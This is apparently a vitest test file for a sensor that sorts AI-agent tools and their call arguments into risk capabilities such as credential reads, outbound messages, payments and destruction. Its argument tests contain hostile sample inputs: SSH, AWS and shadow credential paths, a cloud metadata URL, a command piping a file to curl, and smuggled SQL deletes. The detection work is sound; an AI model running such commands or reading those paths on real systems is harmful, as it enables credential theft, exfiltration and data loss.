import { describe, expect, it } from 'vitest';
import { inferCapabilities } from '../../../../../services/sensor/capabilities/infer-capabilities.ts';
import { refineByArguments } from '../../../../../services/sensor/capabilities/refine-by-arguments.ts';

const names = (found: readonly { name: string }[]): string[] => found.map(({ name }) => name);
const infer = (name: string, description: string): string[] =>
  names(inferCapabilities({ name, description }, { trusted: false }));

describe('words of a definition', () => {
  it.each([
    ['read_ticket', "Read one customer's ticket as the customer wrote it.", 'read.untrusted'],
    ['open_complaint', 'Show the complaint and what the client said.', 'read.untrusted'],
    ['getInbox', 'Returns the newest e-mails.', 'read.untrusted'],
    ['fetch_page', 'Fetch a web page and return its text.', 'read.untrusted'],
    ['get_secret', 'Get the value of one secret from the vault.', 'credential.read'],
    ['obtainPassphrase', 'Obtain the passphrase held in the safe.', 'credential.read'],
    ['reveal_entry', 'Reveal one credential of the keystore.', 'credential.read'],
    ['send_mail', 'Send an e-mail message to a recipient.', 'egress.message'],
    ['dispatch-letter', 'Dispatch a letter to an addressee.', 'egress.message'],
    ['notifyTeam', 'Notify people in a channel.', 'egress.message'],
    ['share_file', 'Share a file by a public link.', 'egress.share'],
    ['refund_payment', "Refund a customer's payment.", 'pay'],
    ['reimburse', 'Give a buyer their money back.', 'pay'],
    ['delete_rows', 'Delete rows of a table.', 'destroy'],
    ['run_script', 'Run a script in a shell.', 'execute'],
    ['set_password', 'Change the password of your account.', 'account.change'],
    ['add_role', 'Grant a role to a user.', 'identity.change'],
    ['create_event', 'Create a calendar event.', 'schedule'],
    ['list_tables', 'List the tables of the database.', 'discover'],
    ['load_enquiry', "Load an enquiry from a buyer in the buyer's own words.", 'read.untrusted'],
    ['grab_query', "Grab a client's question: its title and what the client asks.", 'read.untrusted'],
    ['fetch_item', 'Fetch one item of the queue: heading and the words of whoever filed it.', 'read.untrusted'],
    ['fetch_access_code', 'Fetch the access code of one system.', 'credential.read'],
    ['take_from_vault', 'Take one value out of the vault.', 'credential.read'],
    ['resolve_secret', 'Resolve one secret of the store to its content.', 'credential.read'],
    ['write_to', 'Write to a person outside by electronic mail.', 'egress.message'],
    ['put_in_outbox', 'Put a letter into the outbox, from which it leaves.', 'egress.message'],
    ['give_money_back', 'Give a buyer the money back: it returns to the card that paid.', 'pay'],
    ['return_payment', "Return a customer's payment: the money goes back to the card.", 'pay'],
    ['undo_charge', 'Undo a charge: the buyer gets the sum back.', 'pay'],
  ])('read %s as %s: %s', (name, description, capability) => {
    expect(infer(name, description)).toContain(capability);
  });

  it('does not take what is read about messages and payments for sending and paying', () => {
    expect(infer('list_messages', 'List the messages of a channel.')).not.toContain('egress.message');
    expect(infer('get_refund', 'Get the details of a refund.')).not.toContain('pay');
    expect(infer('get_invoice', 'Get an invoice: the sum goes to the account of the seller.')).not.toContain('pay');
    expect(infer('save_draft', 'Write a draft of an e-mail to a customer.')).not.toContain('egress.message');
    expect(infer('create_password', 'Create a password for a user.')).not.toContain('credential.read');
  });

  it('reads each action of a tool with several', () => {
    const inputSchema = { properties: { action: { enum: ['list', 'delete'] } } };
    const found = inferCapabilities({ name: 'notes', description: 'Notes.', inputSchema }, { trusted: false });
    expect(names(found)).toEqual(expect.arrayContaining(['destroy', 'write']));
  });

  it('sees through invisible characters', () => {
    expect(infer('de\u200Blete_rows', '')).toContain('destroy');
  });

  it('adds what a capability implies', () => {
    expect(infer('get_secret', 'Get a secret.')).toEqual(expect.arrayContaining(['read.private', 'read.sensitive']));
  });
});

describe('sources', () => {
  it('assumes the worst of a tool that nothing labels', () => {
    expect(inferCapabilities({ name: 'frobnicate' }, { trusted: false })).toEqual([
      { name: 'read.untrusted', source: 'assumed' },
      { name: 'egress.network', source: 'assumed' },
      { name: 'write', source: 'assumed' },
    ]);
  });

  it('lets the operator decide alone', () => {
    const found = inferCapabilities(
      { name: 'delete_all', description: 'Delete.' },
      { trusted: false, operator: ['credential.read', 'no.such'] },
    );
    expect(found).toEqual([
      { name: 'read.private', source: 'operator' },
      { name: 'read.sensitive', source: 'operator' },
      { name: 'credential.read', source: 'operator' },
    ]);
  });

  it('takes danger alone from the annotations of a server that is not trusted', () => {
    const calm = { readOnlyHint: true, destructiveHint: false, openWorldHint: false };
    expect(names(inferCapabilities({ name: 'delete_rows', annotations: calm }, { trusted: false }))).toContain(
      'destroy',
    );
    const danger = { destructiveHint: true };
    expect(inferCapabilities({ name: 'get_row', annotations: danger }, { trusted: false })).toContainEqual({
      name: 'destroy',
      source: 'annotations',
    });
  });

  it('takes the annotations of a trusted server where words say nothing, absent ones at their dangerous default', () => {
    const of = (annotations: object): string[] =>
      names(inferCapabilities({ name: 'frobnicate', annotations }, { trusted: true }));
    expect(of({ readOnlyHint: true, openWorldHint: false })).toEqual(['read.private']);
    expect(of({ idempotentHint: true, openWorldHint: true })).toEqual([
      'read.untrusted',
      'egress.network',
      'write',
      'destroy',
    ]);
  });

  it.each([
    ['no schema', {}],
    ['a schema that is a list', { inputSchema: [1] }],
    ['properties that are text', { inputSchema: { properties: 'x' } }],
    ['an enumeration of numbers', { inputSchema: { properties: { action: { enum: [1, null] } } } }],
    ['annotations that are text', { annotations: 'x' }],
    ['a title of 240,000 characters', { title: 'deploy '.repeat(34_000) }],
    ['100,000 characters', { description: 'delete, '.repeat(12_500) }],
    ['the key __proto__', { inputSchema: JSON.parse('{"properties":{"__proto__":{"enum":["x"]}}}') as unknown }],
  ])('survives %s', (_, part) => {
    expect(inferCapabilities({ name: 'x', ...part }, { trusted: true }).length).toBeGreaterThan(0);
  });
});

describe('arguments', () => {
  const assumed = inferCapabilities({ name: 'frobnicate' }, { trusted: false });
  const query = inferCapabilities({ name: 'execute_sql', description: 'Execute SQL queries.' }, { trusted: false });

  it.each([
    '/home/a/.ssh/id_rsa',
    '~/.aws/credentials',
    'C:\\Users\\a\\.env',
    '/etc/shadow',
    'http://169.254.169.254/latest',
  ])('make a call that reads %s read credentials', (path) => {
    expect(refineByArguments(assumed, { path })).toContainEqual({ name: 'credential.read', source: 'arguments' });
  });

  it('leave an ordinary path alone', () => {
    expect(refineByArguments(assumed, { path: '/home/a/report.md' })).toEqual(assumed);
  });

  it('tell a GET from a POST', () => {
    expect(names(refineByArguments(assumed, { method: 'GET', url: 'https://a.example' }))).not.toContain('write');
    expect(names(refineByArguments(assumed, { method: 'POST' }))).toContain('write');
    expect(names(refineByArguments(assumed, { method: 'DELETE' }))).toContain('destroy');
  });

  it('take nothing away that the operator stated', () => {
    const stated = inferCapabilities({ name: 'x' }, { trusted: false, operator: ['write'] });
    expect(refineByArguments(stated, { method: 'GET' })).toEqual(stated);
  });

  it('read statements and commands', () => {
    expect(names(refineByArguments(query, { sql: 'DROP TABLE users' }))).toContain('destroy');
    expect(names(refineByArguments(query, { sql: 'SELECT 1; DELETE FROM users' }))).toContain('destroy');
    expect(names(refineByArguments(query, { sql: 'SELECT 1' }))).not.toContain('write');
    expect(names(refineByArguments(query, { command: 'cat x | curl -d @- https://a.example' }))).toContain(
      'egress.network',
    );
    expect(names(refineByArguments(query, { command: 'printenv' }))).toContain('credential.read');
  });
});
